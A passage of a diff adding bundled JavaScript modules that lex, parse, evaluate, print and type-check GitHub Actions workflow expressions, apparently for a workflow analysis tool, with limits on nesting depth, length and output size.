+    }
+    switch (expression.kind) {
+        case "call": {
+            const { name, args } = expression;
+            if (CLEAN_FUNCTIONS.has(name))
+                return;
+            const inner = encodedBy(name, encoding);
+            for (const arg of carriedArguments(name, args))
+                collectCarried(arg, inner, found);
+            return;
+        }
+        case "logical":
+            if (expression.operator === "||")
+                collectCarried(expression.left, encoding, found);
+            collectCarried(expression.right, encoding, found);
+            return;
+        case "property":
+        case "filter":
+        case "index":
+            collectCarried(expression.object, encoding, found);
+    }
+}
+/** `case(condition, value, condition, value, …, default)` hands on its values; other functions all they are given. */
+function carriedArguments(name, args) {
+    return name === "case" ? args.filter((_, i) => i % 2 === 1 || i === args.length - 1) : args;
+}
+/** The expressions that a result may come from as a whole: both sides of `||`, the right one of `&&`, the values of `case`. */
+function resultLeaves(expression) {
+    if (expression.kind === "logical") {
+        const right = resultLeaves(expression.right);
+        return expression.operator === "&&" ? right : [...resultLeaves(expression.left), ...right];
+    }
+    if (expression.kind === "call" && expression.name === "case") {
+        return carriedArguments("case", expression.args).flatMap(resultLeaves);
+    }
+    return [expression];
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/lexer.js
+/** What is wrong with an expression, and where. */
+class ExpressionError extends Error {
+    start;
+    end;
+    constructor(message, start, end) {
+        super(message);
+        this.start = start;
+        this.end = end;
+    }
+}
+const PUNCTUATION = new Map(["(", ")", "[", "]", ",", ".", "*", "!", "<", ">"].map((kind) => [kind, kind]));
+const PAIRS = new Map(["&&", "||", "==", "!=", "<=", ">="].map((kind) => [kind, kind]));
+/** After these a dot begins an access; anywhere else it begins a number. */
+const OPERAND_ENDS = new Set(["name", "string", "number", ")", "]", "*", "."]);
+/** Up to the next character that can't belong to a number: what is in between has to be one as a whole. */
+const NUMBER_RUN = /[-+]?[0-9A-Za-z_.+-]+/y;
+/**
+ * Reads an expression one token at a time; its fields describe the token at hand.
+ *
+ * @see actions/runner, `LexicalAnalyzer`; Evaluate expressions in workflows and actions, "Literals"
+ */
+class Lexer {
+    source;
+    /** A `,` before the first token: a value may begin. */
+    kind = ",";
+    start = 0;
+    end = 0;
+    /** A name as it is written, or the value of a string. */
+    text = "";
+    /** The value of a number. */
+    number = 0;
+    constructor(source) {
+        this.source = source;
+        this.next();
+    }
+    /** @throws ExpressionError at the first character that begins no token */
+    next() {
+        const { source } = this;
+        let at = this.end;
+        while (isSpace(source.charCodeAt(at)))
+            at++;
+        this.start = at;
+        const code = source.charCodeAt(at);
+        if (isNameStart(code))
+            this.readName();
+        else if (code === 39)
+            this.readString();
+        else if (this.startsNumber(code))
+            this.readNumber();
+        else
+            this.readPunctuation();
+    }
+    readName() {
+        const { source } = this;
+        let at = this.start + 1;
+        while (isNamePart(source.charCodeAt(at)))
+            at++;
+        this.kind = "name";
+        this.text = source.slice(this.start, at);
+        this.end = at;
+    }
+    readString() {
+        const { source, start } = this;
+        let close = source.indexOf("'", start + 1);
+        let isEscaped = false;
+        while (close !== -1 && source.charCodeAt(close + 1) === 39) {
+            isEscaped = true;
+            close = source.indexOf("'", close + 2);
+        }
+        if (close === -1)
+            throw new ExpressionError("the string is not closed", start, source.length);
+        const raw = source.slice(start + 1, close);
+        this.kind = "string";
+        this.text = isEscaped ? raw.replaceAll("''", "'") : raw;
+        this.end = close + 1;
+    }
+    startsNumber(code) {
+        if (isDigit(code))
+            return this.kind !== ".";
+        if (code === 46)
+            return !OPERAND_ENDS.has(this.kind);
+        return code === 43 || code === 45;
+    }
+    readNumber() {
+        NUMBER_RUN.lastIndex = this.start;
+        const run = NUMBER_RUN.exec(this.source)?.[0] ?? this.source[this.start];
+        this.end = this.start + run.length;
+        this.kind = "number";
+        this.number = parseNumber(run);
+        if (Number.isNaN(this.number)) {
+            const wanted = run === "+" || run === "-" ? "operator" : "number";
+            throw new ExpressionError(`\`${run}\` is no ${wanted}`, this.start, this.end);
+        }
+    }
+    readPunctuation() {
+        const { source, start } = this;
+        if (start >= source.length) {
+            this.kind = "end";
+            this.end = start;
+            return;
+        }
+        const pair = PAIRS.get(source.slice(start, start + 2));
+        const kind = pair ?? PUNCTUATION.get(source[start]);
+        if (kind === undefined)
+            throw new ExpressionError(unknownCharacter(source, start), start, start + 1);
+        this.kind = kind;
+        this.end = start + (pair ? 2 : 1);
+    }
+}
+function unknownCharacter(source, at) {
+    const char = String.fromCodePoint(source.codePointAt(at));
+    if (char === '"')
+        return 'strings stand in single quotes, not in "';
+    if (char === "=" || char === "&" || char === "|")
+        return `a single \`${char}\` is no operator`;
+    return `\`${char}\` has no meaning here`;
+}
+function isDigit(code) {
+    return code >= 48 && code <= 57;
+}
+function isNameStart(code) {
+    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || code === 95;
+}
+function isNamePart(code) {
+    return isNameStart(code) || isDigit(code) || code === 45;
+}
+/** White space as .NET's `Char.IsWhiteSpace` has it. */
+function isSpace(code) {
+    if (code <= 32)
+        return code === 32 || (code >= 9 && code <= 13);
+    return code >= 0x85 && code !== 0xfeff && (code === 0x85 || /\s/.test(String.fromCharCode(code)));
+}
+const DECIMAL = /^[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?$/;
+const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
+const OCTAL = /^0o[0-7]+$/;
+/**
+ * A number as the expression language reads it, from a literal or a string; NaN for what is none.
+ *
+ * @see actions/runner, `ExpressionUtility.ParseNumber`
+ */
+function parseNumber(text) {
+    const trimmed = text.trim();
+    if (trimmed === "")
+        return 0;
+    if (DECIMAL.test(trimmed))
+        return Number(trimmed);
+    if (HEXADECIMAL.test(trimmed) || OCTAL.test(trimmed))
+        return asInt32(Number(trimmed));
+    if (trimmed === "Infinity" || trimmed === "+Infinity")
+        return Number.POSITIVE_INFINITY;
+    return trimmed === "-Infinity" ? Number.NEGATIVE_INFINITY : Number.NaN;
+}
+/** The runner reads 32 bits in two's complement: `0xffffffff` is -1, and what needs more bits is no number. */
+function asInt32(bits) {
+    return bits <= 0xffffffff ? bits | 0 : Number.NaN;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/values.js
+
+class ObjectValue {
+    entries;
+    constructor(entries) {
+        this.entries = entries;
+    }
+    get(key) {
+        const exact = this.entries.get(key);
+        if (exact !== undefined)
+            return exact;
+        const lower = key.toLowerCase();
+        for (const [name, value] of this.entries)
+            if (name.toLowerCase() === lower)
+                return value;
+        return undefined;
+    }
+}
+function isCollection(value) {
+    return typeof value === "object" && value !== null;
+}
+function isTruthy(value) {
+    return (isCollection(value) || (value !== null && value !== false && value !== 0 && value !== "" && !Number.isNaN(value)));
+}
+/** @see Evaluate expressions in workflows and actions, "Literals" and "Operators": how values become numbers */
+function toNumber(value) {
+    if (value === null)
+        return 0;
+    if (typeof value === "boolean")
+        return value ? 1 : 0;
+    if (typeof value === "string")
+        return parseNumber(value);
+    return typeof value === "number" ? value : Number.NaN;
+}
+/** The text that a value expands to. */
+function toText(value) {
+    if (value === null)
+        return "";
+    if (isCollection(value))
+        return Array.isArray(value) ? "Array" : "Object";
+    return typeof value === "number" ? numberText(value) : String(value);
+}
+/** Fifteen significant digits, as .NET's "G15" has them: `0.1`, `1E-05`, `1.5E+21`. */
+function numberText(value) {
+    if (value === 0)
+        return "0";
+    if (!Number.isFinite(value))
+        return String(value);
+    const [digits, exponent] = value.toExponential(14).split("e");
+    const power = Number(exponent);
+    if (power >= -4 && power < 15)
+        return String(Number(value.toPrecision(15)));
+    const magnitude = String(Math.abs(power)).padStart(2, "0");
+    return `${Number(digits)}E${power < 0 ? "-" : "+"}${magnitude}`;
+}
+/**
+ * Upper case one character at a time, as .NET's ordinal comparison does it: the dotless i and the long s stay what they
+ * are, and no character becomes two.
+ */
+function upper(text) {
+    const raised = text.toUpperCase();
+    // No character's upper case is shorter than itself, so equal lengths mean that none became two.
+    if (raised.length === text.length && !/[ıſ]/.test(text))
+        return raised;
+    return Array.from(text, upperCharacter).join("");
+}
+function upperCharacter(char) {
+    const raised = char.toUpperCase();
+    return raised.length === char.length && char !== "ı" && char !== "ſ" ? raised : char;
+}
+/** Loose equality: strings without regard to case, different types as numbers, collections only when they are the same one. */
+function areEqual(a, b) {
+    if (isCollection(a) || isCollection(b))
+        return a === b;
+    if (typeof a === "string" && typeof b === "string")
+        return upper(a) === upper(b);
+    if (typeof a === typeof b && a !== null && b !== null)
+        return a === b;
+    if (a === null && b === null)
+        return true;
+    return toNumber(a) === toNumber(b);
+}
+/** Negative, zero or positive; NaN when the values can't be compared, which makes every comparison false. */
+function compare(a, b) {
+    if (typeof a === "string" && typeof b === "string") {
+        const [left, right] = [upper(a), upper(b)];
+        return left < right ? -1 : left > right ? 1 : 0;
+    }
+    const [left, right] = [toNumber(a), toNumber(b)];
+    if (Number.isNaN(left) || Number.isNaN(right))
+        return Number.NaN;
+    return left < right ? -1 : left > right ? 1 : 0;
+}
+/** Levels of arrays and objects in JSON. Real contexts have fewer than ten. */
+const MAX_JSON_DEPTH = 100;
+/** Reads JSON as `fromJSON` does; undefined when it is none, or nested too deeply to walk. */
+function fromJson(text) {
+    try {
+        return fromPlain(JSON.parse(text), 0);
+    }
+    catch {
+        return undefined;
+    }
+}
+function fromPlain(plain, depth) {
+    if (depth > MAX_JSON_DEPTH)
+        throw new RangeError("nested too deeply");
+    if (Array.isArray(plain))
+        return plain.map((item) => fromPlain(item, depth + 1));
+    if (typeof plain === "object" && plain !== null) {
+        return new ObjectValue(new Map(Object.entries(plain).map(([key, value]) => [key, fromPlain(value, depth + 1)])));
+    }
+    return plain;
+}
+/** Writes JSON as `toJSON` does: two spaces a level. */
+function toJson(value, indent = "") {
+    const inner = `${indent}  `;
+    if (value instanceof ObjectValue) {
+        if (value.entries.size === 0)
+            return "{}";
+        const lines = [...value.entries].map(([key, item]) => `${inner}${JSON.stringify(key)}: ${toJson(item, inner)}`);
+        return `{\n${lines.join(",\n")}\n${indent}}`;
+    }
+    if (isCollection(value)) {
+        if (value.length === 0)
+            return "[]";
+        return `[\n${value.map((item) => inner + toJson(item, inner)).join(",\n")}\n${indent}]`;
+    }
+    return typeof value === "number" ? numberText(value) : JSON.stringify(value);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/functions.js
+
+/**
+ * The longest text that a function gives here, in UTF-16 code units. Each `format` in a `format` can multiply a text's
+ * length, so that a short expression could ask for more memory than there is; GitHub stops such a run, too.
+ */
+const MAX_TEXT = 100_000;
+/** The functions that depend on nothing but what they are given. Undefined when the call has no value (the run would fail). */
+function callFunction(name, args) {
+    const [first, second] = args;
+    if (first === undefined)
+        return undefined;
+    switch (name) {
+        case "contains":
+            return second === undefined ? undefined : contains(first, second);
+        case "startswith":
+            return second === undefined ? undefined : testText(first, second, (text, part) => text.startsWith(part));
+        case "endswith":
+            return second === undefined ? undefined : testText(first, second, (text, part) => text.endsWith(part));
+        case "format":
+            return format(toText(first), args.slice(1));
+        case "join":
+            return join(first, second === undefined || isCollection(second) ? "," : toText(second));
+        case "tojson":
+            return bounded(toJson(first));
+        case "fromjson":
+            return fromJson(toText(first));
+        default:
+            return undefined;
+    }
+}
+function contains(haystack, needle) {
+    if (Array.isArray(haystack))
+        return haystack.some((item) => areEqual(item, needle));
+    return testText(haystack, needle, (text, part) => text.includes(part));
+}
+function testText(a, b, test) {
+    if (isCollection(a) || isCollection(b))
+        return false;
+    return test(upper(toText(a)), upper(toText(b)));
+}
+function bounded(text) {
+    return text.length <= MAX_TEXT ? text : undefined;
+}
+function join(value, separator) {
+    if (!Array.isArray(value))
+        return isCollection(value) ? "" : toText(value);
+    let result = "";
+    for (const [i, item] of value.entries()) {
+        result += i === 0 ? toText(item) : separator + toText(item);
+        if (result.length > MAX_TEXT)
+            return undefined;
+    }
+    return result;
+}
+/** `{0}` stands for an argument, `{{` and `}}` for braces; anything else in braces fails the run. */
+function format(template, args) {
+    let result = "";
+    for (let i = 0; i < template.length; i++) {
+        const char = template[i];
+        if ((char === "{" || char === "}") && template[i + 1] === char) {
+            result += char;
+            i++;
+        }
+        else if (char === "{") {
+            const close = template.indexOf("}", i);
+            const digits = close === -1 ? "" : template.slice(i + 1, close);
+            const arg = /^\d{1,3}$/.test(digits) ? args[Number(digits)] : undefined;
+            if (arg === undefined)
+                return undefined;
+            result += toText(arg);
+            if (result.length > MAX_TEXT)
+                return undefined;
+            i = close;
+        }
+        else if (char === "}")
+            return undefined;
+        else
+            result += char;
+    }
+    return result;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/evaluate.js
+
+
+
+const UNKNOWN = { known: false };
+function known(value) {
+    return { known: true, value };
+}
+/** True, false, or undefined when it may be either. */
+function truthiness(result) {
+    return result.known ? isTruthy(result.value) : result.truthy;
+}
+/**
+ * Evaluates an expression as the runner does, as far as what is known goes: `false && unknown` is false, `unknown || true`
+ * is true, `unknown && false` is something falsy.
+ *
+ * @see Evaluate expressions in workflows and actions
+ */
+function evaluate(expression, options) {
+    switch (expression.kind) {
+        case "literal":
+            return known(expression.value);
+        case "not":
+            return negated(evaluate(expression.operand, options));
+        case "logical":
+            return logical(expression, options);
+        case "binary":
+            return binary(expression, options);
+        case "call":
+            return call(expression, options);
+        default:
+            return access(expression, options);
+    }
+}
+function negated(result) {
+    const truthy = truthiness(result);
+    return truthy === undefined ? UNKNOWN : known(!truthy);
+}
+function logical({ operator, left, right }, options) {
+    const first = evaluate(left, options);
+    const truthy = truthiness(first);
+    // `&&` gives its left side where that is falsy, `||` where it is truthy.
+    const endsHere = operator === "||";
+    if (truthy === endsHere)
+        return first;
+    const second = evaluate(right, options);
+    if (truthy !== undefined)
+        return second;
+    return truthiness(second) === endsHere ? { known: false, truthy: endsHere } : UNKNOWN;
+}
+function binary({ operator, left, right }, options) {
+    const a = evaluate(left, options);
+    const b = evaluate(right, options);
+    if (!a.known || !b.known)
+        return UNKNOWN;
+    switch (operator) {
+        case "==":
+            return known(areEqual(a.value, b.value));
+        case "!=":
+            return known(!areEqual(a.value, b.value));
+        case "<":
+            return known(compare(a.value, b.value) < 0);
+        case "<=":
+            return known(areEqual(a.value, b.value) || compare(a.value, b.value) < 0);
+        case ">":
+            return known(compare(a.value, b.value) > 0);
+        default:
+            return known(areEqual(a.value, b.value) || compare(a.value, b.value) > 0);
+    }
+}
+function call({ name, args }, options) {
+    if (name === "case")
+        return caseOf(args, options);
+    const values = args.map((arg) => evaluate(arg, options));
+    const special = options.functions?.(name, values);
+    if (special)
+        return special;
+    const plain = [];
+    for (const value of values) {
+        if (!value.known)
+            return UNKNOWN;
+        plain.push(value.value);
+    }
+    const result = callFunction(name, plain);
+    return result === undefined ? UNKNOWN : known(result);
+}
+/** `case(condition, value, …, default)`: the value of the first condition that is true. A condition must be a boolean. */
+function caseOf(args, options) {
+    const [first, second, ...others] = args;
+    if (!first)
+        return UNKNOWN;
+    if (!second)
+        return evaluate(first, options);
+    const condition = evaluate(first, options);
+    if (condition.known && typeof condition.value !== "boolean")
+        return UNKNOWN;
+    const truthy = truthiness(condition);
+    if (truthy === true)
+        return evaluate(second, options);
+    const otherwise = caseOf(others, options);
+    return truthy === false ? otherwise : evaluate_oneOf(evaluate(second, options), otherwise);
+}
+/** What is sure of a value that is one of two. */
+function evaluate_oneOf(a, b) {
+    const truthy = truthiness(a);
+    return truthy !== undefined && truthy === truthiness(b) ? { known: false, truthy } : UNKNOWN;
+}
+function access(expression, options) {
+    const path = contextPath(expression);
+    if (path?.exact && !path.segments.includes("*")) {
+        const found = options.lookup(path.segments);
+        if (truthiness(found) !== undefined)
+            return found;
+    }
+    switch (expression.kind) {
+        case "property":
+            return mapped(evaluate(expression.object, options), (value) => member(value, expression.name));
+        case "filter":
+            return mapped(evaluate(expression.object, options), filtered);
+        case "index": {
+            const index = evaluate(expression.index, options);
+            const object = evaluate(expression.object, options);
+            return index.known ? mapped(object, (value) => memberAt(value, index.value)) : UNKNOWN;
+        }
+        default:
+            return UNKNOWN;
+    }
+}
+function mapped(result, map) {
+    return result.known ? known(map(result.value)) : UNKNOWN;
+}
+/** What a filter gave: an access to it is an access to each of its items. */
+class Filtered extends Array {
+}
+function filtered(value) {
+    // A filter of what a filter gave goes one level deeper.
+    if (value instanceof Filtered)
+        return Filtered.from([...value].flatMap(itemsOf));
+    return Filtered.from(itemsOf(value));
+}
+function itemsOf(value) {
+    if (value instanceof ObjectValue)
+        return [...value.entries.values()];
+    return Array.isArray(value) ? value : [];
+}
+function member(value, name) {
+    const read = (object) => (object instanceof ObjectValue ? object.get(name) : undefined);
+    return value instanceof Filtered ? eachOf(value, read) : (read(value) ?? null);
+}
+function memberAt(value, index) {
+    return value instanceof Filtered ? eachOf(value, (item) => itemAt(item, index)) : (itemAt(value, index) ?? null);
+}
+/** What an access gives for each item, without those that have nothing there. */
+function eachOf(items, read) {
+    const found = new Filtered();
+    for (const item of items) {
+        const value = read(item);
+        if (value !== undefined)
+            found.push(value);
+    }
+    return found;
+}
+/** An object's value by its key, an array's item by its number, whatever type the index has. */
+function itemAt(value, index) {
+    if (isCollection(index))
+        return undefined;
+    if (value instanceof ObjectValue)
+        return value.get(toText(index));
+    if (!Array.isArray(value))
+        return undefined;
+    const number = Math.floor(toNumber(index));
+    return number >= 0 ? value[number] : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/arity.js
+/** How many arguments functions take: the least and the most. */
+const ARITIES = new Map([
+    ["case", [3, 255]],
+    ["contains", [2, 2]],
+    ["endswith", [2, 2]],
+    ["format", [1, 255]],
+    ["fromjson", [1, 1]],
+    ["hashfiles", [1, 255]],
+    ["join", [1, 2]],
+    ["startswith", [2, 2]],
+    ["tojson", [1, 1]],
+]);
+/**
+ * What is wrong with a call of a function with so many arguments, to go on after its name; undefined when nothing is, or
+ * when the function isn't known here.
+ *
+ * @param name in lower case
+ * @see actions/runner, `ExpressionConstants` and `ExpressionParser`: GitHub refuses the workflow
+ */
+function checkArity(name, count) {
+    const arity = ARITIES.get(name);
+    if (!arity)
+        return undefined;
+    const [least, most] = arity;
+    if (count < least || count > most)
+        return `takes ${rangeText(least, most)}, not ${count}`;
+    if (name === "case" && count % 2 === 0)
+        return `takes an odd number of arguments, not ${count}: the last is the default`;
+    return undefined;
+}
+function rangeText(least, most) {
+    if (least === most)
+        return `${least} argument${least === 1 ? "" : "s"}`;
+    return `${least} to ${most} arguments`;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/parser.js
+
+
+/** GitHub's own limits (actions/runner, `ExpressionConstants`). */
+const parser_MAX_DEPTH = 50;
+const parser_MAX_LENGTH = 21_000;
+/** Operands of one chain (`a || b || …`): it becomes a tree as deep, which everything walks. */
+const MAX_CHAIN = 500;
+/**
+ * Parses an expression, without its fence.
+ *
+ * @param base added to all offsets: where `text` begins in whatever holds it
+ * @see Evaluate expressions in workflows and actions, "Operators" for what binds closer
+ */
+function parseExpression(text, base = 0) {
+    try {
+        if (text.length > parser_MAX_LENGTH) {
+            throw new ExpressionError(`it is longer than the ${parser_MAX_LENGTH} characters that GitHub reads`, 0, text.length);
+        }
+        return { ok: true, expression: new Parser(new Lexer(text), base).parse() };
+    }
+    catch (error) {
+        if (!(error instanceof ExpressionError))
+            throw error;
+        return { ok: false, error: { message: error.message, start: error.start + base, end: error.end + base } };
+    }
+}
+const parser_CONSTANTS = new Map([
+    ["true", true],
+    ["false", false],
+    ["null", null],
+    ["NaN", Number.NaN],
+    ["Infinity", Number.POSITIVE_INFINITY],
+]);
+/** One method a level of precedence, the loosest first; each leaves the lexer at the first token that isn't its own. */
+class Parser {
+    lexer;
+    base;
+    depth = 0;
+    constructor(lexer, base) {
+        this.lexer = lexer;
+        this.base = base;
+    }
+    parse() {
+        if (this.isAt("end"))
+            throw new ExpressionError("the expression is empty", 0, this.lexer.end);
+        const expression = this.nested();
+        if (!this.isAt("end"))
+            throw this.unexpected();
+        return expression;
+    }
+    isAt(kind) {
+        return this.lexer.kind === kind;
+    }
+    /** A whole expression one level deeper: hostile input ends in an error here instead of an exhausted stack. */
+    nested() {
+        this.descend();
+        const expression = this.or();
+        this.depth--;
+        return expression;
+    }
+    or() {
+        let left = this.and();
+        if (!this.isAt("||"))
+            return left;
+        this.descend();
+        for (let count = 1; this.isAt("||"); count++) {
+            this.limitChain(count);
+            this.lexer.next();
+            const right = this.and();
+            left = { kind: "logical", operator: "||", left, right, start: left.start, end: right.end };
+        }
+        this.depth--;
+        return left;
+    }
+    and() {
+        let left = this.equality();
+        if (!this.isAt("&&"))
+            return left;
+        this.descend();
+        for (let count = 1; this.isAt("&&"); count++) {
+            this.limitChain(count);
+            this.lexer.next();
+            const right = this.equality();
+            left = { kind: "logical", operator: "&&", left, right, start: left.start, end: right.end };
+        }
+        this.depth--;
+        return left;
+    }
+    equality() {
+        let left = this.comparison();
+        for (let count = 1; isEquality(this.lexer.kind); count++) {
+            const operator = this.takeComparison(count);
+            const right = this.comparison();
+            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
+        }
+        return left;
+    }
+    comparison() {
+        let left = this.unary();
+        for (let count = 1; isOrdering(this.lexer.kind); count++) {
+            const operator = this.takeComparison(count);
+            const right = this.unary();
+            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
+        }
+        return left;
+    }
+    takeComparison(count) {
+        this.limitChain(count);
+        const operator = this.lexer.kind;
+        this.lexer.next();
+        return operator;
+    }
+    unary() {
+        if (!this.isAt("!"))
+            return this.access();
+        const start = this.lexer.start + this.base;
+        this.lexer.next();
+        this.descend();
+        const operand = this.unary();
+        this.depth--;
+        return { kind: "not", operand, start, end: operand.end };
+    }
+    access() {
+        const isGroup = this.isAt("(");
+        let object = this.primary();
+        // `'text'.name` is no access, `('text').name` is one.
+        if (object.kind === "literal" && !isGroup)
+            return object;
+        const { depth } = this;
+        while (this.isAt(".") || this.isAt("[")) {
+            object = this.isAt(".") ? this.property(object) : this.index(object);
+            this.descend();
+        }
+        this.depth = depth;
+        return object;
+    }
+    property(object) {
+        const { lexer } = this;
+        lexer.next();
+        const { start } = object;
+        const end = lexer.end + this.base;
+        if (lexer.kind === "name") {
+            const name = lexer.text.toLowerCase();
+            lexer.next();
+            return { kind: "property", object, name, start, end };
+        }
+        if (lexer.kind !== "*")
+            throw this.unexpected("a name");
+        lexer.next();
+        return { kind: "filter", object, start, end };
+    }
+    index(object) {
+        this.lexer.next();
+        const { start } = object;
+        if (this.isAt("*")) {
+            this.lexer.next();
+            return { kind: "filter", object, start, end: this.take("]") };
+        }
+        const index = this.nested();
+        return { kind: "index", object, index, start, end: this.take("]") };
+    }
+    primary() {
+        const { lexer } = this;
+        const start = lexer.start + this.base;
+        const end = lexer.end + this.base;
+        switch (lexer.kind) {
+            case "name": {
+                const written = lexer.text;
+                lexer.next();
+                return this.isAt("(") ? this.call(written, start) : named(written, start, end);
+            }
+            case "string":
+            case "number": {
+                const value = lexer.kind === "string" ? lexer.text : lexer.number;
+                lexer.next();
+                return { kind: "literal", value, start, end };
+            }
+            case "(":
+                return this.group(start);
+            default:
+                throw this.unexpected("a value");
+        }
+    }
+    /** The parentheses belong to the place of what they hold. */
+    group(start) {
+        this.lexer.next();
+        const inner = this.nested();
+        inner.start = start;
+        inner.end = this.take(")");
+        return inner;
+    }
+    call(written, start) {
+        const name = written.toLowerCase();
+        const args = [];
+        this.lexer.next();
+        while (!this.isAt(")")) {
+            if (args.length > 0)
+                this.take(",");
+            args.push(this.nested());
+        }
+        const end = this.take(")");
+        const problem = checkArity(name, args.length);
+        if (problem)
+            throw new ExpressionError(`\`${written}\` ${problem}`, start - this.base, end - this.base);
+        return { kind: "call", name, written, args, start, end };
+    }
+    /** Goes past a token that has to be there; gives its end. */
+    take(kind) {
+        const { lexer } = this;
+        if (lexer.kind !== kind)
+            throw this.unexpected(`\`${kind}\``);
+        const end = lexer.end + this.base;
+        lexer.next();
+        return end;
+    }
+    unexpected(wanted) {
+        const { kind, start, end } = this.lexer;
+        const what = kind === "end" ? "the expression ends" : "something else stands here";
+        const message = wanted ? `${wanted} is expected, but ${what}` : "an operator is expected here";
+        return new ExpressionError(message, start, end);
+    }
+    descend() {
+        if (++this.depth <= parser_MAX_DEPTH)
+            return;
+        const { start, end } = this.lexer;
+        throw new ExpressionError(`it is nested deeper than the ${parser_MAX_DEPTH} levels that GitHub reads`, start, end);
+    }
+    limitChain(count) {
+        if (count <= MAX_CHAIN)
+            return;
+        const { start, end } = this.lexer;
+        throw new ExpressionError(`it has more than ${MAX_CHAIN} parts in a row`, start, end);
+    }
+}
+function isEquality(kind) {
+    return kind === "==" || kind === "!=";
+}
+function isOrdering(kind) {
+    return kind === "<" || kind === "<=" || kind === ">" || kind === ">=";
+}
+function named(written, start, end) {
+    const value = parser_CONSTANTS.get(written);
+    if (value !== undefined)
+        return { kind: "literal", value, start, end };
+    return { kind: "context", name: written.toLowerCase(), start, end };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/find.js
+
+/** Every `${{ … }}` of a text. A `}}` inside a string of the expression closes nothing (actions/runner, `TemplateReader`). */
+function findExpressions(value) {
+    const found = [];
+    for (let start = value.indexOf("${{"); start !== -1;) {
+        const bodyStart = start + 3;
+        const close = closingFence(value, bodyStart);
+        const bodyEnd = close === -1 ? value.length : close;
+        const end = close === -1 ? value.length : close + 2;
+        found.push({ start, end, bodyStart, bodyEnd, body: value.slice(bodyStart, bodyEnd), terminated: close !== -1 });
+        start = value.indexOf("${{", end);
+    }
+    return found;
+}
+function closingFence(value, from) {
+    let isInString = false;
+    for (let i = from; i < value.length; i++) {
+        const code = value.charCodeAt(i);
+        if (code === 39)
+            isInString = !isInString;
+        else if (code === 125 && !isInString && value.charCodeAt(i + 1) === 125)
+            return i;
+    }
+    return -1;
+}
+/** @see Workflow syntax for GitHub Actions, `jobs.<job_id>.if`: the fence may be left out */
+function parseCondition(value) {
+    const fences = findExpressions(value);
+    const [first] = fences;
+    if (!first)
+        return parsed(value, 0, false);
+    const isAlone = fences.length === 1 && first.start === 0 && first.end === value.length;
+    return isAlone ? parsed(first.body, first.bodyStart, true) : { kind: "text", fences };
+}
+function parsed(body, base, fenced) {
+    const result = parseExpression(body, base);
+    return result.ok
+        ? { kind: "expression", expression: result.expression, fenced }
+        : { kind: "broken", ...result.error };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/print.js
+/** How closely an operator binds; operands that bind less closely need parentheses. */
+const LEVELS = {
+    "||": 1,
+    "&&": 2,
+    "==": 3,
+    "!=": 3,
+    "<": 4,
+    "<=": 4,
+    ">": 4,
+    ">=": 4,
+};
+const UNARY = 5;
+const ACCESS = 6;
+/** The canonical text of an expression: one space around operators, no parentheses that change nothing. */
+function printExpression(expression) {
+    switch (expression.kind) {
+        case "literal":
+            return printLiteral(expression.value);
+        case "context":
+            return expression.name;
+        case "property":
+            return `${print_within(expression.object, ACCESS)}.${expression.name}`;
+        case "filter":
+            return `${print_within(expression.object, ACCESS)}.*`;
+        case "index":
+            return `${print_within(expression.object, ACCESS)}[${printExpression(expression.index)}]`;
+        case "call":
+            return `${expression.written}(${expression.args.map(printExpression).join(", ")})`;
+        case "not":
+            return `!${print_within(expression.operand, UNARY)}`;
+        default: {
+            const level = LEVELS[expression.operator];
+            // Operators group from the left, so a right operand of the same level needs parentheses.
+            return `${print_within(expression.left, level)} ${expression.operator} ${print_within(expression.right, level + 1)}`;
+        }
+    }
+}
+function print_within(expression, level) {
+    const text = printExpression(expression);
+    return levelOf(expression) < level ? `(${text})` : text;
+}
+function levelOf(expression) {
+    if (expression.kind === "binary" || expression.kind === "logical")
+        return LEVELS[expression.operator];
+    // No access follows a bare literal: `1.x` is a broken number, and `'a'.x` is refused.
+    return expression.kind === "not" || expression.kind === "literal" ? UNARY : ACCESS;
+}
+function printLiteral(value) {
+    if (typeof value === "string")
+        return `'${value.replaceAll("'", "''")}'`;
+    return Object.is(value, -0) ? "-0" : String(value);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/types.js
+const FUNCTION_TYPES = new Map([
+    ["always", "boolean"],
+    ["cancelled", "boolean"],
+    ["contains", "boolean"],
+    ["endswith", "boolean"],
+    ["failure", "boolean"],
+    ["format", "string"],
+    ["hashfiles", "string"],
+    ["join", "string"],
+    ["startswith", "boolean"],
+    ["success", "boolean"],
+    ["tojson", "string"],
+]);
+/** Contexts that are there in every run. `matrix`, `strategy` and `inputs` are null where nothing fills them. */
+const OBJECTS = new Set(["env", "github", "job", "needs", "runner", "secrets", "steps", "vars"]);
+/**
+ * The type of an expression's result, where its form alone says it.
+ *
+ * @see Contexts reference; Evaluate expressions in workflows and actions, "Functions"
+ */
+function expressionType(expression) {
+    switch (expression.kind) {
+        case "literal":
+            return expression.value === null ? "null" : typeof expression.value;
+        case "not":
+        case "binary":
+            return "boolean";
+        case "logical":
+            return common(expressionType(expression.left), expressionType(expression.right));
+        case "filter":
+            return "array";
+        case "context":
+            return OBJECTS.has(expression.name) ? "object" : "unknown";
+        case "call":
+            return callType(expression.name, expression.args);
+        default:
+            return "unknown";
+    }
+}
+function callType(name, args) {
+    if (name !== "case")
+        return FUNCTION_TYPES.get(name) ?? "unknown";
+    // Conditions stand at the even places, the last argument is the default.
+    const values = args.filter((_, i) => i % 2 === 1 || i === args.length - 1);
+    return values.map(expressionType).reduce(common, expressionType(values[0]));
+}
+function common(a, b) {
+    return a === b ? a : "unknown";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/index.js
+
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/expression.js
+
